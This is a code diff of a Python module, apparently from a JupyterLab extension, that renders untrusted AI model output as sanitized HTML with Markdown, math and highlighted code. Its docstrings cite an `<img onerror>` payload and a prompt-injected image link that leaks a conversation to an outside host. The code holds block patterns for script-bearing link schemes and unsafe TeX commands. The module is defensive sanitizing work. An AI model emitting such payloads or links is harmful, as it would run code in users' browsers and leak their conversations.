@@ -1,82 +1,164 @@
-"""Model text made safe to show as Markdown, split into blocks that can be painted append-only.
+"""Model text to safe HTML: the one renderer every view of model output goes through.
 
-Model output is untrusted: JupyterLab renders a live cell's Markdown as trusted HTML, so a raw
-``<img onerror=...>`` in an answer would run in the user's browser. :func:`neutralize_html` escapes
-every ``<`` outside code (where Markdown already shows it literally) and inside math (as ``\\lt``,
-which MathJax renders), defuses ``javascript:``-style link targets, and shows Markdown images as
-text — the browser would fetch them unasked, and an injected ``![](https://host/?q=<secret>)`` is a
-known way to leak a conversation — while Markdown formatting (lists, tables, code, math) still renders.
+Model output is untrusted (prompt injection, tool and agent results), and JupyterLab renders a
+running kernel's outputs as trusted HTML. So model text is never handed to the frontend as Markdown
+or raw HTML: :func:`render_markdown` parses it with a CommonMark parser (markdown-it-py, raw HTML
+off), renders the HTML itself, and passes it through the allowlist sanitizer. What users value
+stays: headings, lists, tables, links, code with Pygments highlighting, and math, which the
+frontend's MathJax typesets. MathJax reads the page's text, so math is model text too: TeX that
+makes links or sets attributes is shown as code, and every ``$`` or ``\\`` outside math sits in an
+element of its own, where MathJax can never pair it into a delimiter. Images become links (a fetch
+the user did not ask for can leak the conversation). The libraries are imported on first use, so
+loading the extension stays fast.
 """
 
 from __future__ import annotations
 
 import re
+from collections.abc import Sequence
+from functools import cache
+from html import escape
+from typing import TYPE_CHECKING, Any
 
+from .sanitize import CODE_CLASS, MATH_CLASS, safe_href, sanitize
+
+if TYPE_CHECKING:
+    from markdown_it import MarkdownIt
+    from markdown_it.token import Token
+
+# TeX commands that make links, set classes/styles/ids/attributes, load code or (re)define macros
+# (a macro could spell any of the others, and MathJax keeps macros for the whole page).
+_UNSAFE_TEX = re.compile(
+    r"\\(?:href|url|class|style|cssId|data|attr|unicode|require|bbox|mmlToken|html|toggle|mathtip|"
+    r"texttip|tooltip|def|gdef|edef|xdef|let|futurelet|newcommand|renewcommand|providecommand|"
+    r"newenvironment|renewenvironment|DeclareMathOperator|csname|expandafter|string|char|catcode)"
+    r"(?![A-Za-z])|\^\^"
+)
+_MATH_DELIMITERS = re.compile(r"([$\\])")
+# CommonMark's line endings (Python's splitlines() also splits on \x0b, \x0c, \x1c-\x1e, \x85, \u2028...)
+_LINE = re.compile(r"[^\r\n]*(?:\r\n|\r|\n)|[^\r\n]+")
 _FENCE = re.compile(r"^ {0,3}(`{3,}|~{3,})")
-_INLINE_CODE = re.compile(r"(`+)(.+?)\1", re.DOTALL)
-_MATH = re.compile(r"(\$\$.+?\$\$|\$[^\s$](?:[^$\n]*?[^\s$])?\$)", re.DOTALL)
-_DANGEROUS_LINK = re.compile(r"\]\(\s*<?\s*(?:javascript|vbscript|data)\s*:", re.IGNORECASE)
-_CODE_BLOCK = re.compile(r"^ {0,3}(`{3,}|~{3,})[^\n]*\n(.*?)^ {0,3}\1[ \t]*$", re.DOTALL | re.MULTILINE)
+_LEXER_NAME = re.compile(r"[\w+#.-]{1,40}")
 
 
-def neutralize_html(markdown: str) -> str:
-    """Markdown with raw HTML shown as text, formatting kept."""
-    out: list[str] = []
-    prose: list[str] = []
-    fence: str | None = None
-    for line in markdown.splitlines(keepends=True):
-        marker = _FENCE.match(line)
-        if fence is None and marker:
-            out.append(_neutralize_prose("".join(prose)))
-            prose = []
-            fence = marker.group(1)[0] * len(marker.group(1))
-            out.append(_neutralize_info_string(line))
-        elif fence is not None:
-            out.append(line)  # inside a fenced block Markdown shows text literally
-            if (
-                marker
-                and marker.group(1).startswith(fence)
-                and not line.strip()[len(marker.group(1)) :].strip()
-            ):
-                fence = None
-        else:
-            prose.append(line)
-    out.append(_neutralize_prose("".join(prose)))
-    return "".join(out)
-
-
-def _neutralize_info_string(line: str) -> str:
-    return line.replace("<", "&lt;")
-
-
-def _neutralize_prose(text: str) -> str:
-    """Escape ``<`` outside inline code; in math use ``\\lt``; defuse script links."""
+def render_markdown(text: str) -> str:
+    """Model Markdown as sanitized HTML, safe to hand to a trusted frontend."""
     if not text:
-        return text
-    pieces: list[str] = []
-    position = 0
-    for match in _INLINE_CODE.finditer(text):
-        pieces.append(_outside_code(text[position : match.start()]))
-        pieces.append(match.group(0))
-        position = match.end()
-    pieces.append(_outside_code(text[position:]))
-    return "".join(pieces)
+        return ""
+    return sanitize(_parser().render(text))
 
 
-def _outside_code(text: str) -> str:
-    pieces: list[str] = []
-    position = 0
-    for match in _MATH.finditer(text):
-        pieces.append(_escape(text[position : match.start()]))
-        pieces.append(match.group(0).replace("<", r"\lt "))
-        position = match.end()
-    pieces.append(_escape(text[position:]))
-    return "".join(pieces)
+def plain_html(text: str) -> str:
+    """Model text shown as preformatted plain text (``--format text``)."""
+    return f"<pre>{_text(text)}</pre>\n" if text else ""
 
 
-def _escape(text: str) -> str:
-    text = text.replace("<", "&lt;").replace("![", "!\\[")
-    return _DANGEROUS_LINK.sub("](#blocked:", text)
+def inline_text(text: str) -> str:
+    """Text shown literally (escaped; safe inside our own markup, and from MathJax)."""
+    return _text(text)
+
+
+def with_code_style(html: str) -> str:
+    """``html`` preceded by the stylesheet that colours its highlighted code, when it has some."""
+    return (code_css() + html) if f'class="{CODE_CLASS}"' in html else html
+
+
+def _text(content: str) -> str:
+    """Escaped text in which no ``$`` or ``\\`` can start or end math (each stands in its own span)."""
+    return _MATH_DELIMITERS.sub(r"<span>\1</span>", escape(content, quote=False))
+
+
+@cache
+def _parser() -> MarkdownIt:
+    from markdown_it import MarkdownIt
+    from mdit_py_plugins.dollarmath import dollarmath_plugin
+
+    md = MarkdownIt("commonmark", {"html": False, "highlight": _highlight})
+    md.enable(["table", "strikethrough"])
+    dollarmath_plugin(md, allow_labels=False, double_inline=True)
+    rules: dict[str, Any] = {
+        "text": lambda _renderer, tokens, i, *_: _text(tokens[i].content),
+        "image": _image,
+        "link_open": _link_open,
+        "math_inline": lambda _renderer, tokens, i, *_: _math(tokens[i].content, "$", "span"),
+        "math_inline_double": lambda _renderer, tokens, i, *_: _math(tokens[i].content, "$$", "span"),
+        "math_block": lambda _renderer, tokens, i, *_: _math(tokens[i].content, "$$", "div") + "\n",
+    }
+    for name, rule in rules.items():
+        md.add_render_rule(name, rule)  # bound as a method: the renderer comes first
+    return md
+
+
+def _math(content: str, delimiter: str, tag: str) -> str:
+    source = f"{delimiter}{content}{delimiter}"
+    if _UNSAFE_TEX.search(content) or "$" in content:
+        return f"<code>{_text(source)}</code>"  # shown as written; MathJax skips <code>
+    return f'<{tag} class="{MATH_CLASS}">{escape(source, quote=False)}</{tag}>'
+
+
+def _image(_renderer: Any, tokens: Sequence[Token], index: int, *_: Any) -> str:
+    token = tokens[index]
+    label = _text(f"[image: {token.content}]" if token.content else "[image]")
+    src = str(token.attrGet("src") or "")
+    return f'<a href="{escape(src)}">{label}</a>' if safe_href(src) else label
+
+
+def _link_open(_renderer: Any, tokens: Sequence[Token], index: int, *_: Any) -> str:
+    token = tokens[index]
+    href = str(token.attrGet("href") or "")
+    title = token.attrGet("title")
+    attrs = f' href="{escape(href)}"' if safe_href(href) else ""
+    attrs += f' title="{escape(str(title))}"' if title else ""
+    return f"<a{attrs}>"
+
+
+def _highlight(code: str, lang: str, attrs: str) -> str:
+    from pygments import highlight
+    from pygments.formatters import HtmlFormatter
+    from pygments.lexers import get_lexer_by_name
+    from pygments.util import ClassNotFound
+
+    name = lang.split(maxsplit=1)[0] if lang.strip() else ""
+    try:
+        if not _LEXER_NAME.fullmatch(name):
+            raise ClassNotFound(name)
+        body = highlight(code, get_lexer_by_name(name), HtmlFormatter(nowrap=True))
+    except ClassNotFound:
+        body = escape(code, quote=False)
+    return f'<pre class="{CODE_CLASS}"><code>{body}</code></pre>'
+
+
+# Token classes -> JupyterLab's editor colours, so code looks as it does in cells, in every theme.
+_COLOURS = {
+    "Keyword": "keyword",
+    "Name.Builtin": "builtin",
+    "Name.Function": "def",
+    "Name.Class": "def",
+    "Name.Decorator": "meta",
+    "Literal.String": "string",
+    "Literal.Number": "number",
+    "Comment": "comment",
+    "Operator": "operator",
+    "Error": "error",
+}
+
+
+@cache
+def code_css() -> str:
+    """The stylesheet for highlighted code (a constant of ours, never built from model text)."""
+    from pygments.token import STANDARD_TYPES
+
+    selectors: dict[str, list[str]] = {}
+    for token_type, short in sorted(STANDARD_TYPES.items(), key=lambda item: item[1]):
+        dotted = str(token_type).removeprefix("Token.")
+        colour = next((c for name, c in _COLOURS.items() if f"{dotted}.".startswith(f"{name}.")), None)
+        if short and colour:
+            selectors.setdefault(colour, []).append(f".{CODE_CLASS} .{short}")
+    rules = [
+        ",".join(names) + f"{{color:var(--jp-mirror-editor-{colour}-color)}}"
+        for colour, names in selectors.items()
+    ]
+    return "<style>" + "".join(rules) + f".{CODE_CLASS} .c,.{CODE_CLASS} .c1{{font-style:italic}}</style>"
 
 
 def split_blocks(markdown: str) -> tuple[list[str], str]:
@@ -84,20 +166,22 @@ def split_blocks(markdown: str) -> tuple[list[str], str]:
     blocks: list[str] = []
     current: list[str] = []
     fence: str | None = None
-    lines = markdown.splitlines(keepends=True)
+    lines = _LINE.findall(markdown)
     for number, line in enumerate(lines):
         marker = _FENCE.match(line)
         if marker and (fence is None or marker.group(1).startswith(fence)):
             fence = None if fence is not None else marker.group(1)
         current.append(line)
-        complete_line = line.endswith("\n") or number < len(lines) - 1
-        if fence is None and not line.strip() and complete_line and "".join(current).strip():
+        complete_line = line.endswith(("\n", "\r")) or number < len(lines) - 1
+        if fence is None and not line.strip(" \t\r\n") and complete_line and "".join(current).strip():
             blocks.append("".join(current))
             current = []
     return blocks, "".join(current)
 
 
 def first_code_block(markdown: str) -> str | None:
-    """The body of the first fenced code block, if the text has one."""
-    match = _CODE_BLOCK.search(markdown)
-    return match.group(2).rstrip("\n") if match else None
+    """The body of the first fenced code block, as the Markdown parser reads it."""
+    for token in _parser().parse(markdown):
+        if token.type == "fence":
+            return token.content.rstrip("\n")
+    return None
